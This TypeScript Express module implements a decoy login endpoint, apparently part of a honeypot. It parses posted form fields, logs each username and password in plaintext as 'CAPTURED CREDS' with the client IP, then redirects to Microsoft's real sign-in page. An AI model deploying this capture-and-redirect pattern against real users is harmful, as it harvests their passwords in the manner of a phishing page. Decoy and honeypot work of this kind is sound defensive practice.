import express, { Router, type ErrorRequestHandler, type RequestHandler } from 'express';
import { z } from 'zod';
import { asyncHandler } from '../middleware/asyncHandler.js';
import { ROUTER_OPTIONS, type RouterContext } from './context.js';

export const LOGIN_PATH = '/ssdp/do_login.html';
export const IDENTITY_PROVIDER_URL = 'https://login.microsoftonline.com/';
export const DEFAULT_LOGIN_DELAY_MS = 500;

const FORM_CONTENT_TYPE = 'application/x-www-form-urlencoded';

// Repeated fields keep their first value.
const formField = z
  .array(z.string())
  .default([])
  .transform((values) => values[0] ?? '');

const loginFormSchema = z.object({
  username: formField,
  password: formField,
});

const BROKEN_ESCAPE = /%(?![0-9A-Fa-f]{2})/;
const ESCAPE_SEQUENCE = /^%[0-9A-Fa-f]{2}$/;
const strictUtf8 = new TextDecoder('utf-8', { fatal: true });

/** A `%` not followed by two hex digits */
export function isMalformedForm(body: string): boolean {
  return BROKEN_ESCAPE.test(body);
}

/**
 * Percent-decodes one form component. Escaped bytes that are not valid UTF-8
 * are read as Latin-1 so nothing the client sent is lost.
 */
export function decodeFormComponent(component: string): string {
  const bytes = Buffer.concat(
    component
      .replace(/\+/g, ' ')
      .split(/(%[0-9A-Fa-f]{2})/)
      .map((part) =>
        ESCAPE_SEQUENCE.test(part)
          ? Buffer.from([parseInt(part.slice(1), 16)])
          : Buffer.from(part, 'utf8'),
      ),
  );
  try {
    return strictUtf8.decode(bytes);
  } catch {
    return bytes.toString('latin1');
  }
}

export function parseForm(body: string): Map<string, string[]> {
  const fields = new Map<string, string[]>();
  for (const pair of body.split('&')) {
    if (pair === '') continue;
    const separator = pair.indexOf('=');
    const key = decodeFormComponent(separator === -1 ? pair : pair.slice(0, separator));
    const value = separator === -1 ? '' : decodeFormComponent(pair.slice(separator + 1));
    fields.set(key, [...(fields.get(key) ?? []), value]);
  }
  return fields;
}

const postOnly: RequestHandler = (req, res, next) => {
  if (req.method !== 'POST') {
    res.status(405).send('Method Not Allowed');
    return;
  }
  next();
};

const badRequest: ErrorRequestHandler = (err: unknown, _req, res, next) => {
  const status =
    typeof err === 'object' && err !== null && 'status' in err ? err.status : undefined;
  if (typeof status === 'number' && status >= 400 && status < 500) {
    res.status(400).send('Bad Request');
    return;
  }
  next(err);
};

const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

export function createLoginRouter(
  { log }: RouterContext,
  delayMs: number = DEFAULT_LOGIN_DELAY_MS,
): Router {
  const router = Router(ROUTER_OPTIONS);

  router.all(
    LOGIN_PATH,
    postOnly,
    // Read as text so any declared charset is honoured
    express.text({ type: FORM_CONTENT_TYPE, defaultCharset: 'utf-8' }),
    asyncHandler(async (req, res) => {
      const body: unknown = req.body;
      const raw = typeof body === 'string' ? body : '';
      if (isMalformedForm(raw)) {
        res.status(400).send('Bad Request');
        return;
      }

      const fields = parseForm(raw);
      const form = loginFormSchema.safeParse({
        username: fields.get('username'),
        password: fields.get('password'),
      });
      if (!form.success) {
        res.status(400).send('Bad Request');
        return;
      }

      const { username, password } = form.data;
      log.event(
        'CREDS_GIVEN',
        `HOST: ${req.realIp ?? 'unknown'}, CAPTURED CREDS: username=${username}&password=${password}`,
      );

      await sleep(delayMs);
      res.redirect(302, IDENTITY_PROVIDER_URL);
    }),
    badRequest,
  );

  return router;
}
